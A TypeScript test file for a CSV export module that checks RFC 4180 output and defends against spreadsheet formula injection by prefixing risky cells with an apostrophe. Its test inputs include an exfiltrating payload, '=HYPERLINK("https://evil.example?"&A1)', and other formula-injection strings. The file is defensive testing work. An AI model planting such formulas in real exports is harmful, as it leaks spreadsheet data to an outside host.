import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Cell } from '../../../preload/contract';
import { collect } from '../../../tests/support/collect';
import { NOW_MS } from '../../../tests/support/now';
import { dataTables } from '../store/tables';
import { instant, text } from '../store/tables/define-table';
import { csvOf, neutralise, undoNeutralise } from './csv';

const columns = { at: instant, a: text, b: text };

async function csv(rows: Record<string, Cell>[]): Promise<string> {
  async function* source() {
    yield* rows;
  }
  const chunks = await collect(csvOf(columns, source()));
  expect(chunks.reduce((sum, chunk) => sum + chunk.rows, 0)).toBe(rows.length);
  return chunks.map((chunk) => chunk.text).join('');
}

const AWKWARD = [
  '',
  ' ',
  '"',
  '""',
  ',',
  ';',
  '\n',
  '\r',
  '\r\n',
  '\0',
  '\uFEFFbom',
  '\uD800',
  '\u202Ertl',
  'مرحبا',
  '😀',
  '=1+1',
  ' =1',
  '\n=1',
  '＝1',
  '+49',
  '-1',
  '@x',
  '\t=1',
  "'=1",
  'null',
];
const value = fc.oneof(
  fc.constantFrom(...AWKWARD),
  fc.string({ unit: 'binary' }),
  fc.array(fc.constantFrom(...AWKWARD)).map((parts) => parts.join('')),
);

/** RFC 4180 as a grammar of its own, so that papaparse is not its own judge. */
const FIELD = '(?:[^",\\r\\n]*|"(?:[^"]|"")*")';
const RFC_4180 = new RegExp(`^(?:${FIELD}(?:,${FIELD})*\\r\\n)+$`, 'u');

describe('a CSV file', () => {
  it('names the columns first, even if there are no rows', async () => {
    expect(await csv([])).toBe('at,a,b\r\n');
  });

  it('has the columns of the lesson for participations, in their order, and then those of the terms', () => {
    expect(Object.keys(dataTables.participations.columns).join(', ')).toBe(
      'created_at, email, firstname, lastname, street, house_number, zip, city, country, phone, ' +
        'experience_name, giveaway_name, giveaway_id, experience_id, session_id, ' +
        'participation_id, channel, expires_at, ' +
        'terms_name, terms_version, terms_hash, legal_version_id',
    );
  });

  it('says times in ISO 8601 and leaves a missing value empty', async () => {
    expect(await csv([{ at: NOW_MS, a: null, b: 'x' }])).toBe(
      'at,a,b\r\n2026-07-15T10:00:00.000Z,,x\r\n',
    );
  });

  it('gives back every text that goes in, but for the apostrophe before a formula', async () => {
    const row = fc.record({ at: fc.integer({ min: 0, max: 8.64e15 }), a: value, b: value });
    await fc.assert(
      fc.asyncProperty(fc.array(row, { maxLength: 5 }), async (rows) => {
        const file = await csv(rows);
        expect(file).toMatch(RFC_4180);
        const { data } = Papa.parse<string[]>(file.slice(0, -2), {
          delimiter: ',',
          newline: '\r\n',
        });
        expect(data.slice(1)).toEqual(
          rows.map(({ at, a, b }) => [new Date(at).toISOString(), neutralise(a), neutralise(b)]),
        );
      }),
      { numRuns: 300 },
    );
  });

  it('holds as many rows as there are, across its chunks', async () => {
    for (const count of [999, 1_000, 1_001, 2_000]) {
      const rows = Array.from({ length: count }, (_, index) => ({
        at: index,
        a: `${index}`,
        b: '',
      }));
      const lines = (await csv(rows)).trimEnd().split('\r\n');
      expect(lines).toHaveLength(count + 1);
      expect(lines.at(-1)).toContain(`,${count - 1},`);
    }
  });
});

describe('a cell', () => {
  it.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1',
    '-1',
    '@SUM(A1)',
    ' =1',
    '\u00a0=1',
    '\u3000=1',
    '\ufeff=1',
    '\n=1',
    '\0=1',
    '\0 \t=1',
    '＝1',
    '＋1',
    '－1',
    '＠1',
    ' ＝1',
    '\tx',
    '\rx',
    '\nx',
    '=1\n2',
    '"=1+1"',
    "'=1",
    '\'"\t=1',
    '+49 30 1234567',
    '-1+1',
    '+1e5',
  ])('%j is no formula in a spreadsheet', (formula) => {
    expect(neutralise(formula)).toBe(`'${formula}`);
  });

  it.each(['', 'a', 'a=1', '1-1', 'ann+raffle@example.com', "'a", '"a"', '😀', ' a'])(
    '%j stays as it is',
    (harmless) => {
      expect(neutralise(harmless)).toBe(harmless);
    },
  );

  it.each(['+4930123456', '+4930123456;ext=12', '-5', '-5.25', '-5,25', '+0'])(
    '%j that was checked has no apostrophe, as free text it has one',
    (checkedValue) => {
      expect(neutralise(checkedValue, true)).toBe(checkedValue);
      expect(neutralise(checkedValue)).toBe(`'${checkedValue}`);
    },
  );

  it.each([
    '=1',
    '+49a',
    '+49;ext=1+1',
    '+49;cmd=1',
    '-1+1',
    '+49 30',
    '＋49',
    '--1',
    '+',
    '-1\n',
    '+1.2.3',
  ])('%j is no number of any kind, whatever column it stands in', (formula) => {
    expect(neutralise(formula, true)).toBe(`'${formula}`);
  });

  it('can be told again from what was there before, whatever that was', () => {
    const quoted = fc
      .tuple(fc.constantFrom('', "'", "''", '"', "'\t"), value)
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(quoted, fc.boolean(), (any, isChecked) => {
        expect(undoNeutralise(neutralise(any, isChecked))).toBe(any);
      }),
      { numRuns: 2_000 },
    );
  });

  it('never begins with what a spreadsheet takes for a formula, whatever comes in', () => {
    fc.assert(
      fc.property(value, (any) => {
        const first = neutralise(any).trimStart().normalize('NFKC').charAt(0);
        expect('=+-@').not.toContain(first || 'nothing');
      }),
      { numRuns: 1_000 },
    );
  });
});
